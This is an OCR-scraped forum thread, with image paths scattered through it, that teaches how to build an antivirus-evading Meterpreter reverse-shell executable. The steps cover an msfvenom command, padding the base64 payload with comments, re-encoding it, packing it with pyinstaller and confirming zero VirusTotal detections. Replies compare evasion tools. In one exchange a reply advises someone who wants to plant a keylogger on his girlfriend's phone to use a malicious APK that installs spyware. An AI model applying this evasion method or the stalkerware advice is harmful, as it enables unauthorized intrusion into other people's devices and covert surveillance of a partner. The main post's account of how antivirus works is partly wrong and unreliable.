Forum Thread: Creating an Completely UndetectableExecutable in Under 15 Minutes!

Hello everyone, this is my first post so play nice with me.
We are going to create an undetectable (meterpreter/shell/vnc) executable in under 15 minutes.

Hence forth, what I mean by undetectable is that it is undetected by 0 antivirus. Trust me I 've tried and it's possible.

But you ask, how is this possible?
Let me explain how AV's detect threats in quick and simple language.

When you scan an .exe or any other file, it doesn't scan the actual code for bad stuff. It copies the signature and searches it's database if it's a threat or not. Simple.

Typically many new executables aren't detected until it's too late.So, how do we change the signature, how we infect the user?
Let's do this!

Note: All tools used were used under a fresh kali system. Meaning that all tools are already preinstalled.

Step 1: Boot Up Kali and Create a Basic Executable

First we need to create a basic script from msfvenom to make the executable.Do the command:

msfvenom -p python/meterpreter/reverse-underscore-tcp LHOST = ANYIP LPORT= ANY PORT R>

Here is mine.

Step 2: Decrypting and Editing the Source Code

Take the .py file you've created and open it with any text editor. It should look like this.

Now we need to decrypt it with a base64 decryptor.
Take the highlighted pink part and copy it.
Paste it to any decryptor online. I used this website
Click on decode and paste it into the text box.

and look at that! We've decrypted the source code.
Naturally this code is public knowledge and all AV's know about it. So let's change the code a bit.
Copy the Source Code and paste it into encoder.

Make some spaces between the code and add
# Anything can go here
make as much as you can. The more, the better.
Here's what I did.

import socket,struct
while len(d)<l:

— See?

As you can see there there is some random messages that are placed in between the code. The # means comment so it doesn't affect the code and python will just skip it. This is for human codeproofers to see what's going on.

Now. Once that's finished. Copy that code and paste it into the encoder.

That's a lot of symbols.
Copy the output and paste into the pink part of the python script you opened earlier.

As you can see, it dramatically increased the size of the code.Save it now.

Step 3: Convert It into an Executable EXE's.

Now, unless you are attacking a Windows based client there is no need for this.
Linux is built-in python support. (At least to some extent)
Mac has built-in python support.

Windows doesn't, and the averageconsumer doesn't install python on their computer. So what do we do?
Make it into an .exe executable

Run the command:
pyinstaller 'Your .py file here'
thats it!
Wait for it finish.
Once it's finished it will place it in a specific directory.
Usually it's in /root/dist/nameofyourfile/.Step 4: Testing the Executable Against the AV.

Naturally this isn't a good idea because many AV's use virustotal to see new viruses.
But it is perfect because a computer can never outsmart a always changing virus.

So take your .exe file and scan it!

As you can see we have a 0/54 detection ratio. Meaning no one found it!
This has many uses. The scenarios are endless.


19 Responses

Nice tutorial. I'll be checking it out tonight. Thanks.

I'm having an issue with it. When I try to run it on Windows 7 64 bit, I get an error message of The version of this file is not compatible with the version of Windows...

I'm guessing that it's because it's a 32bit exe on a 64 bit OS, but shouldn't pyinstaller make it compatible?

It still won't work, even if I do not change anything inthe source code.

Any ideas on getting it to work?

Okay. It's a 64 bit os. So it should be able to work.
There are other python to exe programs.
Try to use py2exe.

i got the same issue how did u manage it?

Haven't figured it out yet. I pretty much gave up. I'd rather work with Shellter.

i just learned about shellter but i am afraid that it will get cought by AV soon like veil evasion . i used to use aes encryption now anti viruses detects it. btw i have a question shellter doeesnt seem to start with full permission even though i am root in each stepit says access denied rmem_error . i am using kali

Nice tutorial, it´s working well, now I know an easy way to make my files fud!

Yeah, I'm thinking about making a tool like veil-evasion.
Hows that sound?

How did you set the meterpreter payload then because I'm experiencing some issues with it...

This is a great tutorial! Why don't AVs scan the actual code?That will be unpractical, slow and almost impossible.
Most executables are encrypted to protect people copying and pasting it.

AV's don't have a human brain, meaning that they can't scan code and say 'Wait, the code looks really sketchy. I'm removingit.'

But where AV's shine is the removal process. Once the AV finds it, your probably dead meat, I've had scenarios where Malwarebytes caught me but I killed it just in time.

Anyway, most users don't need an anti-virus, just don't install sketchy programs.

It's not entirely true that AVs don't scan the code. Signature analysis does static code analysis using extracted code patterns from previously analyzed malicious files. If a specific code pattern is found within a file, the AV will start flagging it and may potentially be seen as suspicious. If enough flags are raised, the file in question will be labelled as malicious depending on the level of sensitivity set in the AV. So in a sense, you could say that an AV knows whether a file is suspicious or not.

P.S. Is your file supposed to be a PE file? It's seen as an ELF64 on the Virus Total scan.

Personally I would disagree with your last statement. Drive by downloading malware attacks are increasing. They infect though vulnerabilities. But yeah, the majority of infections are user installed.

It doesn't matter. Drive-by vulnerabilities are still being added or not at all into AV databases.

Many AV's don't even fix or monitor vulnerabilities. That relies upon on the user downloading OS security updates. Users that use windows 10 are naturally unaffected to these, but anyone that uses anything else is affected.

Can you please help me install keylogger remotely on my girlfriend's phone??

Meterpreter for Android doesn't have a built-in keylogger.
However, you may create a malicious (.apk if android), to piggyback and install a more capable spying program.

IMO, keylogging isn't really all that useful, Ipersonally use it to gain passwords if they are text based. Otherwise you are just flooding every letter she types.

doesn't the victim's computer needs python though?

ShareYour Thoughts

  • Hot
  • Active